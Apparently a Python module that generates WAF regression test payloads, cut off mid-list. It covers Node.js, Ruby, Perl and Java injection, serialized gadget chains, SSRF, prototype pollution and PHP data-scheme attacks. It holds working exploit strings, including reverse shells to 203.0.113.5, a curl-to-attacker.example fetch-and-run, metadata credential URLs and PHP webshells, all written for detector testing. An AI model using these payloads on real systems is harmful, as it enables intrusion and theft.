"""Blind positive tests for the Node.js, generic (SSRF, prototype pollution, Ruby, Perl, Node.js DoS, PHP data
scheme), Java and server-side template injection detection titles, written the way a fourteenth rule author
writes them: the canonical attack each title names, one test per alternative of its family, then the evasions
published WAF-bypass write-ups and bug-bounty reports use against that family (case mixing where the target is
case-insensitive, comments and odd whitespace the interpreter skips, names built from parts, alternative syntax
for the same effect, and encodings the target decodes: URL, double URL, JSON unicode escapes, XML character
references, percent escapes in lower case, MIME-wrapped or offset base64).

Families and sub-families (one sub-family per detection title, kebab-case from the title):
- generic: nodejs-injection (934100; Node.js Injection Attack 1/2), nodejs-injection-2 (2/2),
  ssrf-cloud-metadata-url, ssrf-url-ip-address, javascript-prototype-pollution, ruby-injection, perl-injection,
  nodejs-dos, php-data-scheme.
- java: java-class-rce (944100), java-process-spawn (944110), java-serialization-rce (944120),
  java-suspicious-class (944130), java-magic-bytes (944200), java-magic-bytes-base64 (944210),
  java-serialization-rce-pl2 (944240), java-suspicious-method (944250), log4j-log4shell,
  java-class-loading, java-script-file-upload.
- ssti: ssti-jinja2, ssti-twig, ssti-freemarker, ssti-velocity, ssti-thymeleaf, ssti-erb, ssti-smarty,
  ssti-handlebars, ssti-pug.

Placements: every payload is sent twice. Once to one of our real routes (query of /api/users, form of
/admin/users/search with csrf_token, JSON of /api/users, cookie, User-Agent, Referer, X-Api-Version header, a
parameter name, an XML body, a multipart field or filename, the URL path), once the way a WAF regression suite
sends it ("rs-" placements: /, /index.php, /get, /post, /search, /api/v1/items, /cgi-bin/test.cgi with
arbitrary parameter names, as a query string, form body, JSON body, XML body, raw form-typed body, User-Agent,
Referer, custom header or cookie). Payloads that only make sense in one shape keep to it: byte streams go
percent-encoded in a query, form or cookie; JSON-escaped text in JSON bodies; XML character references in XML
bodies; parameter-name attacks (prototype pollution, class-loader binding) as raw query strings and form bodies;
upload names as multipart filenames and PUT paths.

Authorship and independence: written for this repository from general knowledge and the detection titles
alone; no WAF rule, ruleset regression test, other blind set or public payload list was read. Measured once on
unchanged code. Deterministic: no clock and no randomness; the records are the same on every run.
"""

from __future__ import annotations

import base64
import json
import re
import urllib.parse
from collections.abc import Iterator
from typing import Any
from xml.sax.saxutils import escape

from .family_gen import UA, _form, _get, _json, _query
from .family_gen_blind_php import chat_and_bio, links_and_prose
from .records import numbered, print_records

NAME = "hundredtenth"

# Modes: how a payload's text is carried.
#   plain  - the text as the application receives it; each placement encodes it as that place requires
#   wire   - already URL-encoded exactly as sent (query, form, cookie)
#   jraw   - JSON string contents with escapes, inserted verbatim between quotes of a JSON body
#   xfrag  - XML element content with character references, inserted verbatim into an XML body
#   xdoc   - a whole XML document as the request body
#   jdoc   - a whole JSON document as the request body
#   qs     - a raw query string or form body (attacks in parameter names)
#   bin    - bytes (as latin-1 text), percent-encoded; binlc: lower-case escapes; bin2: encoded twice
#   file   - an upload's file name; cd: the Content-Disposition tail after name="file"
Payload = tuple[str, str]


def b64(text: str | bytes) -> str:
    raw = text.encode() if isinstance(text, str) else text
    return base64.b64encode(raw).decode()


def char_codes(text: str) -> str:
    return ",".join(str(ord(c)) for c in text)


# ---------------------------------------------------------------------------------------------------------------
# Java serialization streams (bytes as latin-1 text)
MAGIC = b"\xac\xed\x00\x05"


def _utf(s: str) -> bytes:
    raw = s.encode()
    return len(raw).to_bytes(2, "big") + raw


def _obj(cls: str, fields: tuple[tuple[str, str], ...] = (), suid: bytes = b"\x00" * 7 + b"\x01") -> bytes:
    """TC_OBJECT with a TC_CLASSDESC: name, serialVersionUID, SC_SERIALIZABLE, fields, end, no superclass."""
    out = b"sr" + _utf(cls) + suid + b"\x02" + len(fields).to_bytes(2, "big")
    for typ, name in fields:
        out += typ[0].encode() + _utf(name)
        if typ[0] in "L[":
            out += b"t" + _utf(typ)
    return out + b"xp"


def _str(s: str) -> bytes:
    return b"t" + _utf(s)


def _cls(name: str) -> bytes:
    return b"vr" + _utf(name) + b"\x00" * 8 + b"\x00\x00\x00xp"


def stream(*parts: bytes, magic: bytes = MAGIC) -> bytes:
    return magic + b"".join(parts)


def latin(raw: bytes) -> str:
    return raw.decode("latin-1")


CC = "org.apache.commons.collections.functors."
CC4 = "org.apache.commons.collections4.functors."
TRANSFORMER = "Lorg/apache/commons/collections/Transformer;"

SER_CC1 = stream(
    _obj("sun.reflect.annotation.AnnotationInvocationHandler", (("Ljava/util/Map;", "memberValues"),
                                                                ("Ljava/lang/Class;", "type"))),
    _obj("org.apache.commons.collections.map.LazyMap", ((TRANSFORMER, "factory"),)),
    _obj(CC + "ChainedTransformer", (("[" + TRANSFORMER, "iTransformers"),)),
    _obj(CC + "ConstantTransformer", (("Ljava/lang/Object;", "iConstant"),)), _cls("java.lang.Runtime"),
    _obj(CC + "InvokerTransformer", (("[Ljava/lang/Object;", "iArgs"), ("Ljava/lang/String;", "iMethodName"),
                                     ("[Ljava/lang/Class;", "iParamTypes"))),
    _str("getMethod"), _str("getRuntime"), _str("invoke"), _str("exec"), _str("id"))
SER_CC3 = stream(
    _obj("sun.reflect.annotation.AnnotationInvocationHandler", (("Ljava/util/Map;", "memberValues"),)),
    _obj("org.apache.commons.collections.map.LazyMap", ((TRANSFORMER, "factory"),)),
    _obj(CC + "ConstantTransformer", (("Ljava/lang/Object;", "iConstant"),)),
    _cls("com.sun.org.apache.xalan.internal.xsltc.trax.TrAXFilter"),
    _obj(CC + "InstantiateTransformer", (("[Ljava/lang/Object;", "iArgs"), ("[Ljava/lang/Class;", "iParamTypes"))),
    _obj("com.sun.org.apache.xalan.internal.xsltc.trax.TemplatesImpl", (("I", "_indentNumber"),)),
    _str("java.lang.Runtime"), _str("exec"))
SER_CC5 = stream(
    _obj("javax.management.BadAttributeValueExpException", (("Ljava/lang/Object;", "val"),)),
    _obj("org.apache.commons.collections.keyvalue.TiedMapEntry", (("Ljava/lang/Object;", "key"),
                                                                   ("Ljava/util/Map;", "map"))),
    _obj("org.apache.commons.collections.map.LazyMap", ((TRANSFORMER, "factory"),)),
    _obj(CC + "InvokerTransformer", (("Ljava/lang/String;", "iMethodName"),)), _cls("java.lang.Runtime"),
    _str("getRuntime"), _str("exec"), _str("touch /tmp/pwned"))
SER_CLOSURES = stream(
    _obj("java.util.HashSet"), _obj(CC + "ForClosure", (("I", "iCount"), ("Lorg/apache/commons/collections/Closure;",
                                                                          "iClosure"))),
    _obj(CC + "WhileClosure", (("Z", "iDoLoop"),)), _obj(CC + "InstantiateFactory", (("Ljava/lang/Class;",
                                                                                     "iClassToInstantiate"),)),
    _cls("java.lang.ProcessBuilder"), _str("start"), _str("/bin/sh"))
SER_CC4 = stream(
    _obj("java.util.PriorityQueue", (("I", "size"), ("Ljava/util/Comparator;", "comparator"))),
    _obj("org.apache.commons.collections4.comparators.TransformingComparator",
         (("Lorg/apache/commons/collections4/Transformer;", "transformer"),)),
    _obj(CC4 + "InvokerTransformer", (("Ljava/lang/String;", "iMethodName"),)), _cls("java.lang.Runtime"),
    _str("getRuntime"), _str("exec"), _str("calc.exe"))
SER_CLONE = stream(
    _obj("java.util.HashMap", (("F", "loadFactor"), ("I", "threshold"))), _obj(CC + "CloneTransformer"),
    _obj(CC + "PrototypeCloneFactory", (("Ljava/lang/Object;", "iPrototype"),)), _cls("java.lang.Runtime"),
    _str("exec"), _str("id"))
# gadget words only, no process: the paranoia-level-2 side of the same title
SER_INSTANTIATE = stream(
    _obj("java.util.PriorityQueue", (("I", "size"),)),
    _obj(CC + "InstantiateTransformer", (("[Ljava/lang/Object;", "iArgs"), ("[Ljava/lang/Class;", "iParamTypes"))),
    _cls("com.sun.org.apache.xalan.internal.xsltc.trax.TrAXFilter"))
SER_CLONE_ONLY = stream(_obj("java.util.HashMap"), _obj(CC + "CloneTransformer"), _str("x"))
SER_PROTO_SER = stream(_obj("java.util.TreeBag"), _obj(CC + "PrototypeFactory$PrototypeSerializationFactory",
                                                        (("Ljava/io/Serializable;", "iPrototype"),)))
SER_FACTORY_WHILE = stream(_obj(CC + "InstantiateFactory", (("Ljava/lang/Class;", "iClassToInstantiate"),)),
                           _obj(CC + "WhileClosure", (("Z", "iDoLoop"),)), _str("java.io.FileWriter"))
SER_PROTO_CLONE = stream(_obj("java.util.HashSet"), _obj(CC + "PrototypeFactory$PrototypeCloneFactory",
                                                         (("Ljava/lang/reflect/Method;", "iCloneMethod"),)))
SER_BEANUTILS = stream(_obj("java.util.PriorityQueue", (("I", "size"),)),
                       _obj("org.apache.commons.beanutils.BeanComparator", (("Ljava/lang/String;", "property"),)),
                       _str("outputProperties"), _str("getProperty"))

# first objects that lead real gadget chains (magic-bytes tests)
SER_HASHMAP = stream(_obj("java.util.HashMap", (("F", "loadFactor"), ("I", "threshold")),
                          suid=b"\x05\x07\xda\xc1\xc3\x16\x60\xd1"), b"?@\x00\x00\x00\x00\x00\x0cw\x08")
SER_STRING = stream(b"t\x00\x04test")
SER_OBJARRAY = stream(b"ur" + _utf("[Ljava.lang.Object;") + b"\x90\xceX\x9f\x10s)l\x02\x00\x00xp\x00\x00\x00\x02",
                      b"pt\x00\x01/")
SER_AIH = stream(_obj("sun.reflect.annotation.AnnotationInvocationHandler",
                      (("Ljava/util/Map;", "memberValues"), ("Ljava/lang/Class;", "type"))))
SER_BAVE = stream(_obj("javax.management.BadAttributeValueExpException", (("Ljava/lang/Object;", "val"),)))
SER_PQ = stream(_obj("java.util.PriorityQueue", (("I", "size"), ("Ljava/util/Comparator;", "comparator")),
                     suid=b"\x94\xda0\xb4\xfb?\x82\xb1"))
SER_BLOCK = stream(b"w\x04\x00\x00\x00\x01")
SER_URL = stream(_obj("java.util.HashMap"), _obj("java.net.URL", (("I", "hashCode"), ("I", "port"),
                                                                   ("Ljava/lang/String;", "host"))),
                 _str("x.attacker.example"))
SER_HASHSET = stream(_obj("java.util.HashSet"), _obj("org.apache.commons.collections.keyvalue.TiedMapEntry"))
SER_TEMPLATES = stream(_obj("com.sun.org.apache.xalan.internal.xsltc.trax.TemplatesImpl",
                            (("I", "_indentNumber"), ("[[B", "_bytecodes"))))

JAVA_CLASS_FILE = b"\xca\xfe\xba\xbe\x00\x00\x004\x00&\n\x00\x08\x00\x17\x07\x00\x18"  # a class file's head


def _mime_wrap(text: str, width: int = 76) -> str:
    return "\n".join(text[i:i + width] for i in range(0, len(text), width))


# ---------------------------------------------------------------------------------------------------------------
# generic: Node.js injection (1/2: deserialization markers and child_process; 2/2: sandbox escapes and eval)
CP_ID = "require('child_process').execSync('id')"
NODE_SERIALIZE = ('{"rce":"_$$ND_FUNC$$_function(){require(\'child_process\').exec(\'id\', '
                  'function(error, stdout, stderr) { console.log(stdout) });}()"}')
NODEJS_INJECTION: list[Payload] = [
    (NODE_SERIALIZE, "plain"),
    ("_$$ND_FUNC$$_function (){return require(\"child_process\").execSync(\"cat /etc/passwd\").toString()}()",
     "plain"),
    ('{"__js_function":"function(){return global.process.mainModule.constructor._load(\'child_process\')'
     '.execSync(\'id\').toString()}()"}', "plain"),
    ("require('child_process').execSync('cat /etc/passwd').toString()", "plain"),
    ("process.mainModule.require('child_process').spawnSync('id').stdout.toString()", "plain"),
    ("global.process.mainModule.constructor._load(\"child_process\").exec(\"nc 203.0.113.5 4444 -e /bin/sh\")",
     "plain"),
    ("res.end(require('fs').readFileSync('/etc/passwd'))", "plain"),
    ("eval(String.fromCharCode(" + char_codes("require('child_process').exec('id')") + "))", "plain"),
    ("require('child_'+'process')['ex'+'ec']('id')", "plain"),
    ("require(`child_process`).exec(`id`)", "plain"),
    ("require/**/('child_process')/**/.exec('id')", "plain"),
    ("require\t(\n'child_process'\n)\t.exec('id')", "plain"),
    ("\\u0072equire('\\x63hild_process').exec('id')", "plain"),
    ("_\\u0024\\u0024ND_FUNC\\u0024\\u0024_function(){\\u0072equire(\\u0027child_process\\u0027).exec(\\u0027id"
     "\\u0027)}()", "jraw"),
    ("_%2524%2524ND_FUNC%2524%2524_function()%257Brequire(%2527child_process%2527).exec(%2527id%2527)%257D()",
     "wire"),
    (b64(NODE_SERIALIZE), "plain"),
]
NODEJS_INJECTION_2: list[Payload] = [
    ("new Function('return process')().mainModule.require('child_process').execSync('id')", "plain"),
    ("Function('return this')().process.mainModule.require('fs').readdirSync('/')", "plain"),
    ("setTimeout(\"require('child_process').exec('id')\", 0)", "plain"),
    ("setInterval(`process.mainModule.require('child_process').exec('id')`, 1000)", "plain"),
    ("module.exports = function () { return " + CP_ID + " }", "plain"),
    ("[].constructor.constructor('return process')().env", "plain"),
    ("(()=>{}).constructor('return process.mainModule')().require('child_process').execSync('id')", "plain"),
    ("import('child_process').then(cp => cp.execSync('id'))", "plain"),
    ("global['pro'+'cess']['main'+'Module']['req'+'uire']('child'+'_process')['exec'+'Sync']('id')", "plain"),
    ("require('vm').runInNewContext('this.constructor.constructor(\"return process\")().mainModule"
     ".require(\"child_process\").execSync(\"id\")')", "plain"),
    ("eval(Buffer.from('" + b64(CP_ID) + "', 'base64').toString())", "plain"),
    ("eval(atob('" + b64(CP_ID) + "'))", "plain"),
    ("process.binding('spawn_sync').spawn({file:'/bin/sh',args:['sh','-c','id'],"
     "stdio:[{type:'pipe',readable:true,writable:false}]})", "plain"),
    ("Reflect.construct(Function, ['return process'])().mainModule.require('child_process').execSync('id')",
     "plain"),
    ("eval\u00a0(\"require('child_process').exec('id')\")", "plain"),
    ("this[\"\\x63onstructor\"][\"\\x63onstructor\"](\"return process\")().exit()", "plain"),
]

# generic: SSRF
SSRF_METADATA: list[Payload] = [
    ("http://169.254.169.254/latest/meta-data/iam/security-credentials/", "plain"),
    ("http://169.254.169.254/latest/user-data", "plain"),
    ("http://metadata.google.internal/computeMetadata/v1/instance/service-accounts/default/token", "plain"),
    ("http://169.254.169.254/metadata/instance?api-version=2021-02-01", "plain"),
    ("http://100.100.100.200/latest/meta-data/ram/security-credentials/", "plain"),
    ("http://169.254.169.254/opc/v2/instance/", "plain"),
    ("http://[fd00:ec2::254]/latest/meta-data/", "plain"),
    ("http://169.254.170.2/v2/credentials/", "plain"),
    ("http://instance-data/latest/meta-data/", "plain"),
    ("http://2852039166/latest/meta-data/", "plain"),
    ("http://0xA9FEA9FE/latest/meta-data/", "plain"),
    ("http://0251.0376.0251.0376/latest/meta-data/", "plain"),
    ("http://[::ffff:a9fe:a9fe]/latest/meta-data/", "plain"),
    ("http://169.254.43518/latest/meta-data/", "plain"),
    ("http://trusted.example.com@169.254.169.254/latest/meta-data/", "plain"),
    ("http%253A%252F%252F169.254.169.254%252Flatest%252Fmeta-data%252F", "wire"),
]
SSRF_IP: list[Payload] = [
    ("http://127.0.0.1:8080/manager/html", "plain"),
    ("http://10.0.0.1/", "plain"),
    ("http://192.168.0.1/cgi-bin/luci", "plain"),
    ("http://172.17.0.1:2375/containers/json", "plain"),
    ("https://203.0.113.10:8443/admin", "plain"),
    ("http://2130706433/", "plain"),
    ("http://0x7f000001/", "plain"),
    ("http://0177.0.0.1/", "plain"),
    ("http://127.1:6379/", "plain"),
    ("http://[::1]:6379/", "plain"),
    ("http://[0:0:0:0:0:ffff:127.0.0.1]/", "plain"),
    ("gopher://127.0.0.1:6379/_FLUSHALL%0D%0ASET%20x%201%0D%0A", "plain"),
    ("dict://10.0.0.5:11211/stats", "plain"),
    ("HtTp://0x7f.0.0.1/", "plain"),
    ("http://\u2460\u2461\u2466.\u24ea.\u24ea.\u2460/", "plain"),
    ("ftp://192.168.1.10/pub/", "plain"),
]

# generic: prototype pollution (parameter names and JSON keys)
EJS_GADGET = "x%3Bprocess.mainModule.require(%27child_process%27).execSync(%27id%27)%3Bs"
PROTOTYPE_POLLUTION: list[Payload] = [
    ("__proto__[isAdmin]=true", "qs"),
    ("__proto__.isAdmin=true", "qs"),
    ("constructor[prototype][isAdmin]=true", "qs"),
    ("constructor.prototype.isAdmin=true", "qs"),
    ("user[__proto__][role]=admin", "qs"),
    ("%5F%5Fproto%5F%5F[admin]=1", "qs"),
    ("__pro__proto__to__[admin]=1", "qs"),
    ("__proto__%5Bpolluted%5D=1", "qs"),
    ("q=books&__proto__[outputFunctionName]=" + EJS_GADGET, "qs"),
    ("a[constructor][prototype][toString]=1", "qs"),
    ('{"__proto__":{"isAdmin":true}}', "jdoc"),
    ('{"constructor":{"prototype":{"isAdmin":true}}}', "jdoc"),
    ('{"\\u005f\\u005fproto\\u005f\\u005f":{"isAdmin":true}}', "jdoc"),
    ('{"user":{"name":"x","__proto__":{"role":"admin"}}}', "jdoc"),
    ('{"__proto__":{"shell":"node","NODE_OPTIONS":"--require /proc/self/environ",'
     '"env":{"A":"console.log(require(\'child_process\').execSync(\'id\').toString())//"}}}', "jdoc"),
    ('{"a":{"__proto__":{"sourceURL":"\\u2028\\u2029\\nglobal.process.mainModule.require(\'child_process\')'
     '.execSync(\'id\')"}}}', "jdoc"),
]

RUBY_YAML = (
    "--- !ruby/object:Gem::Requirement\nrequirements:\n  !ruby/object:Gem::Package::TarReader\n"
    "  io: &1 !ruby/object:Net::BufferedIO\n    io: &1 !ruby/object:Gem::Package::TarReader::Entry\n"
    "       read: 0\n       header: \"abc\"\n    debug_output: &1 !ruby/object:Net::WriteAdapter\n"
    "       socket: &1 !ruby/object:Gem::RequestSet\n           sets: !ruby/object:Net::WriteAdapter\n"
    "               socket: !ruby/module 'Kernel'\n               method_id: :system\n"
    "           git_set: id\n       method_id: :resolve")
RUBY: list[Payload] = [
    ("Kernel.exec('id')", "plain"),
    ("Kernel.system(\"cat /etc/passwd\")", "plain"),
    ("IO.popen('id').read", "plain"),
    ("%x(id)", "plain"),
    ("%x{uname -a}", "plain"),
    ("eval(\"File.read('/etc/passwd')\")", "plain"),
    ("open('|id').read", "plain"),
    ("Process.spawn('id')", "plain"),
    ("Open3.capture2('id')", "plain"),
    ("instance_eval('`id`')", "plain"),
    ("Kernel.send(:system, 'id')", "plain"),
    ("Object.const_get('Ker'+'nel').public_send('sys'+'tem', 'id')", "plain"),
    ("Kernel.method(:system).call('id')", "plain"),
    ("eval(\"\\x73ystem('id')\")", "plain"),
    ("Kernel . system ( 'id' )", "plain"),
    (RUBY_YAML, "plain"),
]
PERL: list[Payload] = [
    ("qx{id}", "plain"),
    ("qx(cat /etc/passwd)", "plain"),
    ("qx/uname -a/", "plain"),
    ("open(my $fh, \"id|\")", "plain"),
    ("|cat /etc/passwd|", "plain"),
    ("exec('/bin/sh', '-i')", "plain"),
    ("eval \"system('id')\"", "plain"),
    ("@{[ system('id') ]}", "plain"),
    ("${\\ system('id')}", "plain"),
    ("readpipe('id')", "plain"),
    ("CORE::system('id')", "plain"),
    ("&{\"sys\".\"tem\"}('id')", "plain"),
    ("eval(pack('H*','" + b"system('id');".hex() + "'))", "plain"),
    ("qx {id}", "plain"),
    ("use Socket;$i=\"203.0.113.5\";$p=4444;socket(S,PF_INET,SOCK_STREAM,getprotobyname(\"tcp\"));"
     "connect(S,sockaddr_in($p,inet_aton($i)));open(STDIN,\">&S\");exec(\"/bin/sh -i\");", "plain"),
    ("open(my $fh, '-|', 'id')", "plain"),
]
NODE_DOS: list[Payload] = [
    ("while(true){}", "plain"),
    ("for(;;){}", "plain"),
    ("while(1);", "plain"),
    ("do{}while(true)", "plain"),
    ("for(;true;){}", "plain"),
    ("while (!0) {}", "plain"),
    ("while(!![]){}", "plain"),
    ("while/**/(true)/**/{}", "plain"),
    ("for\t(\n;\n;\n)\t{}", "plain"),
    ("process.exit(1)", "plain"),
    ("process.kill(process.pid, 'SIGKILL')", "plain"),
    ("process.abort()", "plain"),
    ("'a'.repeat(2**30)", "plain"),
    ("new Array(1e9).fill(0)", "plain"),
    ("(function f(){ f() })()", "plain"),
    ("/(a+)+$/.test('aaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaa!')", "plain"),
]
PHP_SHELL = "<?php system($_GET['cmd']);?>"
PHP_DATA: list[Payload] = [
    ("data://text/plain;base64," + b64(PHP_SHELL), "plain"),
    ("data://text/plain,<?php phpinfo();?>", "plain"),
    ("data:text/plain,<?php system('id');?>", "plain"),
    ("data:,<?php system($_GET[0]);?>", "plain"),
    ("data://text/plain;base64," + b64("<?php eval($_POST[1]);"), "plain"),
    ("data://image/jpeg;base64," + b64("<?php passthru('id');?>"), "plain"),
    ("data://text/plain;charset=utf-8;base64," + b64("<?=`id`;?>"), "plain"),
    ("DATA://text/plain;base64," + b64(PHP_SHELL), "plain"),
    ("dAtA:text/plain;base64," + b64("<?php echo shell_exec($_GET['c']);?>"), "plain"),
    ("data%253A%252F%252Ftext%252Fplain%253Bbase64%252C" + urllib.parse.quote(b64(PHP_SHELL), safe=""), "wire"),
    ("data://text/plain,%3C%3Fphp%20system('id')%3B%3F%3E", "plain"),
    ("data:application/x-httpd-php;base64," + b64("<?php echo shell_exec('id');?>"), "plain"),
    ("data&#58;//text/plain;base64," + b64(PHP_SHELL), "xfrag"),
    ("\\u0064ata://text/plain;base64," + b64(PHP_SHELL), "jraw"),
]

# ---------------------------------------------------------------------------------------------------------------
# java
JAVA_CLASS_RCE: list[Payload] = [
    ("java.lang.Runtime.getRuntime().exec(\"id\")", "plain"),
    ("%{(#rt=@java.lang.Runtime@getRuntime()).(#rt.exec('id'))}", "plain"),
    ("${T(java.lang.Runtime).getRuntime().exec('id')}", "plain"),
    ("new java.lang.ProcessBuilder({'/bin/sh','-c','id'}).start()", "plain"),
    ("%{(#p=new java.lang.ProcessBuilder({'id'})).(#p.redirectErrorStream(true)).(#p.start())}", "plain"),
    ("Class.forName(\"java.lang.ProcessImpl\").getDeclaredMethod(\"start\", String[].class, java.util.Map.class, "
     "String.class, java.lang.ProcessBuilder.Redirect[].class, boolean.class)", "plain"),
    ("Class.forName(\"java.lang.UNIXProcess\").getDeclaredConstructors()[0]", "plain"),
    ("<java><object class=\"java.lang.&#x52;untime\" method=\"getRuntime\"><void method=\"exec\">"
     "<string>id</string></void></object></java>", "xdoc"),
    ("${T(java.lang. Runtime).getRuntime().exec('id')}", "plain"),
    ("#{T(java.lang.Class).forName('java.l'+'ang.Run'+'time').getMethod('getRuntime').invoke(null).exec('id')}",
     "plain"),
    ("${''.getClass().forName('java.lang.Runtime').getMethod('getRuntime').invoke(null).exec('id')}", "plain"),
    ("<% java.lang.\\u0052untime.getRuntime().exec(request.getParameter(\"c\")); %>", "plain"),
    ("@java.lang.Runtime@getRuntime().exec(\"whoami\")", "plain"),
    ("%{\n(#rt = @java.lang.Runtime@getRuntime())\n.(#rt.exec('id'))\n}", "plain"),
    ("${T(java.lang.\\u0052untime).getRuntime().exec(\\u0027id\\u0027)}", "jraw"),
]

XSTREAM_9805 = (
    "<map><entry><jdk.nashorn.internal.objects.NativeString><flags>0</flags><value class=\"com.sun.xml.internal."
    "bind.v2.runtime.unmarshaller.Base64Data\"><dataHandler><dataSource class=\"com.sun.xml.internal.ws.encoding."
    "xml.XMLMessage$XmlDataSource\"><is class=\"javax.crypto.CipherInputStream\"><cipher class=\"javax.crypto."
    "NullCipher\"><initialized>false</initialized><opmode>0</opmode><serviceIterator class=\"javax.imageio.spi."
    "FilterIterator\"><iter class=\"javax.imageio.spi.FilterIterator\"><iter class=\"java.util.Collections$Empty"
    "Iterator\"/><next class=\"{pb}\"><command>{cmd}</command><redirectErrorStream>false</redirectErrorStream>"
    "</next></iter><filter class=\"javax.imageio.ImageIO$ContainsFilter\"><method><class>{pb}</class>"
    "<name>start</name><parameter-types/></method><name>foo</name></filter><next class=\"string\">foo</next>"
    "</serviceIterator><lock/></cipher><input class=\"java.lang.ProcessBuilder$NullInputStream\"/><ibuffer/>"
    "<done>false</done><ostart>0</ostart><ofinish>0</ofinish><closed>false</closed></is><consumed>false"
    "</consumed></dataSource><transferFlavors/></dataHandler><dataLen>0</dataLen></value>"
    "</jdk.nashorn.internal.objects.NativeString><jdk.nashorn.internal.objects.NativeString reference=\"../../"
    "entry/jdk.nashorn.internal.objects.NativeString\"/></entry></map>")


def xstream(cmd: list[str], pb: str = "java.lang.ProcessBuilder") -> str:
    return XSTREAM_9805.replace("{pb}", pb).replace("{cmd}", "".join(f"<string>{c}</string>" for c in cmd))


XML_DECODER_PB = (
    "<java version=\"1.8.0_151\" class=\"java.beans.XMLDecoder\"><void class=\"java.lang.ProcessBuilder\">"
    "<array class=\"java.lang.String\" length=\"3\"><void index=\"0\"><string>/bin/bash</string></void>"
    "<void index=\"1\"><string>-c</string></void><void index=\"2\"><string>id</string></void></array>"
    "<void method=\"start\"/></void></java>")
JAVA_PROCESS_SPAWN: list[Payload] = [
    (xstream(["touch", "/tmp/pwned"]), "xdoc"),
    (xstream(["/bin/sh", "-c", "curl http://attacker.example/s.sh|sh"]), "xdoc"),
    ("<sorted-set><string>foo</string><dynamic-proxy><interface>java.lang.Comparable</interface>"
     "<handler class=\"java.beans.EventHandler\"><target class=\"java.lang.ProcessBuilder\"><command>"
     "<string>calc.exe</string></command></target><action>start</action></handler></dynamic-proxy></sorted-set>",
     "xdoc"),
    ("<soapenv:Envelope xmlns:soapenv=\"http://schemas.xmlsoap.org/soap/envelope/\"><soapenv:Header>"
     "<work:WorkContext xmlns:work=\"http://bea.com/2004/06/soap/workarea/\">" + XML_DECODER_PB
     + "</work:WorkContext></soapenv:Header><soapenv:Body/></soapenv:Envelope>", "xdoc"),
    ("<java><object class=\"java.lang.Runtime\" method=\"getRuntime\"><void method=\"exec\"><array "
     "class=\"java.lang.String\" length=\"3\"><void index=\"0\"><string>/bin/sh</string></void><void index=\"1\">"
     "<string>-c</string></void><void index=\"2\"><string>id</string></void></array></void></object></java>",
     "xdoc"),
    ("<beans xmlns=\"http://www.springframework.org/schema/beans\"><bean id=\"pb\" class=\"java.lang."
     "ProcessBuilder\" init-method=\"start\"><constructor-arg><list><value>bash</value><value>-c</value>"
     "<value>id</value></list></constructor-arg></bean></beans>", "xdoc"),
    (xstream(["id"], pb="java.lang.&#x50;rocessBuilder"), "xdoc"),
    ("<sorted-set>\n\t<string>foo</string>\n\t<dynamic-proxy>\n\t\t<interface>java.lang.Comparable</interface>\n"
     "\t\t<handler class = 'java.beans.EventHandler'>\n\t\t\t<target\n\t\t\t\tclass = 'java.lang.ProcessBuilder'>"
     "<command><string>id</string></command></target>\n\t\t\t<action>start</action>\n\t\t</handler>\n"
     "\t</dynamic-proxy>\n</sorted-set>", "xdoc"),
    (XML_DECODER_PB, "xdoc"),
    ("<java><!-- job --><void class=\"java.lang.ProcessBuilder\"><!-- args --><array class=\"java.lang.String\" "
     "length=\"1\"><void index=\"0\"><string><![CDATA[touch /tmp/x]]></string></void></array>"
     "<void method=\"start\"/></void></java>", "xdoc"),
    ("new java.lang.ProcessBuilder(\"bash\",\"-c\",\"id\").start()", "plain"),
    ("new java.lang.ProcessBuilder(new String(T(java.util.Base64).getDecoder().decode('aWQ='))).start()", "plain"),
    ("${T(java.lang.Runtime).getRuntime().exec(new java.lang.String[]{'/bin/sh','-c','id'})}", "plain"),
    ("<map><entry><jdk.nashorn.internal.objects.NativeString><value class=\"com.sun.xml.internal.bind.v2."
     "runtime.unmarshaller.Base64Data\"><dataHandler><dataSource class=\"javax.activation.URLDataSource\"/>"
     "</dataHandler></value></jdk.nashorn.internal.objects.NativeString></entry><entry><string>"
     "java.lang.Runtime.getRuntime().exec('id')</string></entry></map>", "xdoc"),
]

XSTREAM_INVOKER = (
    "<org.apache.commons.collections.functors.ChainedTransformer><iTransformers>"
    "<org.apache.commons.collections.functors.ConstantTransformer><iConstant class=\"java-class\">java.lang.Runtime"
    "</iConstant></org.apache.commons.collections.functors.ConstantTransformer>"
    "<org.apache.commons.collections.functors.InvokerTransformer><iMethodName>getMethod</iMethodName>"
    "</org.apache.commons.collections.functors.InvokerTransformer>"
    "<org.apache.commons.collections.functors.InvokerTransformer><iMethodName>exec</iMethodName><iParamTypes>"
    "<java-class>java.lang.String</java-class></iParamTypes><iArgs><string>id</string></iArgs>"
    "</org.apache.commons.collections.functors.InvokerTransformer></iTransformers>"
    "</org.apache.commons.collections.functors.ChainedTransformer>")
JAVA_SERIALIZATION: list[Payload] = [
    (latin(SER_CC1), "bin"),
    (latin(SER_CC3), "bin"),
    (latin(SER_CC5), "bin"),
    (latin(SER_CLOSURES), "bin"),
    (latin(SER_CC4), "bin"),
    (latin(SER_CLONE), "bin"),
    (latin(SER_CC1), "binlc"),
    (latin(SER_CC5), "bin2"),
    (XSTREAM_INVOKER, "xdoc"),
    ("<map><entry><string>x</string><transformer class=\"org.apache.commons.collections.functors.&#73;nvoker"
     "Transformer\"><iMethodName>exec</iMethodName><iArgs><string>id</string></iArgs></transformer>"
     "<target class=\"java-class\">java.lang.Runtime</target></entry></map>", "xdoc"),
    ("new org.apache.commons.collections.functors.InvokerTransformer(\"exec\", new Class[]{String.class}, "
     "new Object[]{\"id\"}).transform(java.lang.Runtime.getRuntime())", "plain"),
    ("new ChainedTransformer(new Transformer[]{new ConstantTransformer(java.lang.Runtime.class), "
     "new InvokerTransformer(\"getMethod\", new Class[]{String.class, Class[].class}, new Object[]{\"getRuntime\", "
     "new Class[0]}), new InvokerTransformer(\"exec\", new Class[]{String.class}, new Object[]{\"id\"})})", "plain"),
    ("new org.apache.commons.collections.functors.InstantiateTransformer(new Class[]{String[].class}, "
     "new Object[]{new String[]{\"id\"}}).transform(java.lang.ProcessBuilder.class)", "plain"),
    ("[\"org.apache.commons.collections.functors.\\u0049nvokerTransformer\",{\"iMethodName\":\"exec\","
     "\"iArgs\":[\"id\"],\"target\":\"java.lang.Runtime\"}]", "jdoc"),
]
JAVA_SERIALIZATION_PL2: list[Payload] = [
    (latin(SER_INSTANTIATE), "bin"),
    (latin(SER_CLONE_ONLY), "bin"),
    (latin(SER_PROTO_SER), "bin"),
    (latin(SER_FACTORY_WHILE), "bin"),
    (latin(SER_BEANUTILS), "bin"),
